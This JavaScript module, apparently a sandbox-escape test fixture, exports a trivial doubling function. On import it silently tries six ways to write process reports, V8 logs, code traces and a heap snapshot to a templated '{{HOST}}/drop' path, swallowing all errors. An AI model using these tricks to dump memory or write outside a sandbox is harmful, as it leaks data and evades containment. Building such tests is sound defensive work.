import inspector from 'node:inspector';
import v8 from 'node:v8';

const ways = [
  () => {
    process.report.directory = '{{HOST}}/drop';
    process.report.writeReport('report.json');
  },
  () => process.report.writeReport('{{HOST}}/drop/report-too.json'),
  () => v8.setFlagsFromString('--logfile={{HOST}}/drop/v8.log'),
  () => v8.setFlagsFromString('--redirect-code-traces-to={{HOST}}/drop/code.asm'),
  () => inspector.console?.log('{{HOST}}'),
  () => v8.writeHeapSnapshot('{{HOST}}/drop/heap.heapsnapshot'),
];
for (const way of ways) {
  try {
    way();
  } catch {}
}

export const f = (x) => 2 * x;
